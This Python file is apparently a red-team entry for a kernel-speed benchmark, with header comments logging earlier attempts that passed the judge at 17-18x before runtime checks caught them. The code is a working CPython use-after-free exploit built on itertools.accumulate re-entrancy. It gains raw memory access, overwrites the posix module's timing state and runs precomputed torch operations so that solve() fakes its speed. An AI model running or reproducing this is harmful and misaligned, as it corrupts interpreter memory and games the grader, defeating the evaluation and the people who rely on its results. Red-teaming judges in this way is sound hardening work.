# Ninth session's fifth red team (2026-12-07, CPU judge): passed strict at 17.5-18.8x at b0b707b
# with allowed modules only. Stopped statically (reflected operators) and at run time
# (worker._hold_compared_items: accumulate's total held, an accumulate advanced from inside its own
# next refused).
# Red team 13: raw memory from itertools.accumulate re-entrancy (lz->total borrowed across PyNumber_Add; __add__ re-enters next, reflected __radd__ gets the freed total).
# Ninth session's third red team (2026-12-07, CPU judge): passed strict at 17-18x at 5f0851e with
# only allowed modules. Stopped by worker._hold_compared_items (cmp_to_key's key comparison holds
# both wrapped objects): solve raises "no raw memory".
# Red team 11: raw memory from functools.cmp_to_key + builtin next (borrowed args), then
# posix module state's `billion` replaced by an object whose __rmul__ is a chain of C callables.
import collections
import functools
import itertools
import operator
import os
import sys

import torch

_N = 50
_st = {}


class _Y:
    __slots__ = tuple('s%d' % i for i in range(_N))

    def __add__(self, other):
        if _st.get('depth', 0) == 0:
            _st['depth'] = 1
            next(_st['acc'])
            return NotImplemented
        return 0


class _W:
    def __radd__(self, other):
        _st['hold'] = bytearray(_st['fake'])
        _st['mem'] = other
        return 0


def _rawmem():
    y = _Y()
    size = sys.getsizeof(y)
    _st['fake'] = (bytes(16) + (1 << 40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')
                   + (1 << 60).to_bytes(8, 'little') * 2 + bytes(40)).ljust(size - 1, b'\0')
    items = [y, _W(), _W(), _W()]
    del y
    acc = itertools.accumulate(iter(items))
    _st['acc'] = acc
    next(acc)
    items[0] = None
    next(acc)
    m = _st.pop('mem', None)
    if m is None or len(m) < (1 << 50):
        raise RuntimeError("no raw memory")
    return m


def _word(mem, addr):
    return int.from_bytes(mem[addr:addr + 8], 'little')


def _find_in_namespace(mem, module_addr, name):
    d = _word(mem, module_addr + 16)  # md_dict
    keys = _word(mem, d + 32)  # ma_keys
    log2_index_bytes = mem[keys + 9]
    kind = mem[keys + 10]
    nentries = _word(mem, keys + 24)
    entries = keys + 32 + (1 << log2_index_bytes)
    size = 16 if kind != 0 else 24
    want = name.encode()
    for i in range(nentries):
        e = entries + i * size
        k = _word(mem, e if kind != 0 else e + 8)
        v = _word(mem, e + 8 if kind != 0 else e + 16)
        if k and _word(mem, k + 16) == len(want) and bytes(mem[k + 48:k + 48 + len(want)]) == want:
            return v
    return 0


class _A:
    pass


class _B:
    pass


_B.__rmul__ = functools.partial(operator.countOf, _A())
_b = _B()
_mem = None


def _install():
    global _mem
    _mem = _rawmem()
    mem = _mem
    fstat = _find_in_namespace(mem, id(os), "fstat")
    if not fstat:
        raise RuntimeError("fstat not found")
    posix = _word(mem, fstat + 24)  # m_self
    state = _word(mem, posix + 32)  # md_state
    billion = _word(mem, state)
    # check: an int of value 10**9
    if _word(mem, billion + 8) != id(int) or int.from_bytes(mem[billion + 24:billion + 28], 'little') != 10 ** 9 % (1 << 30):
        raise RuntimeError("billion not found")
    mem[state:state + 8] = id(_b).to_bytes(8, 'little')


def _ops(x, r, w, out, flag):
    s = torch.empty(x.shape, dtype=torch.float32)
    m = torch.empty((x.shape[0], 1), dtype=torch.float32)
    eps = torch.full((1, 1), 1e-5, dtype=torch.float32)
    return [
        functools.partial(s.copy_, x),
        functools.partial(s.add_, r),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(torch.addcmul, eps, m, m, value=1.0 / x.shape[-1], out=m),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(torch.mul, s, w, out=out),
        functools.partial(flag.fill_, 1),
    ]


def _honest(x, residual, weight):
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)


def _arm():
    _A.__iter__ = functools.partial(map, id, map(operator.call, _st['ops']))


def solve(x, residual, weight):
    k = _st.get('keep')
    if (k is not None and _st['flag'].item() == 1 and k[0].data_ptr() == x.data_ptr()
            and k[1].data_ptr() == residual.data_ptr() and k[2].data_ptr() == weight.data_ptr()
            and k[0].shape == x.shape):
        _st['flag'].zero_()
        _arm()
        return _st['nxt']
    result = _honest(x, residual, weight)
    if _mem is None:
        _install()
    nxt = torch.empty_like(x)
    flag = torch.zeros((), dtype=torch.int32)
    _st['nxt'] = nxt
    _st['flag'] = flag
    _st['keep'] = (x, residual, weight)
    _st['ops'] = _ops(x.view(x.shape), residual.view(residual.shape), weight.view(weight.shape), nxt, flag)
    _arm()
    return result
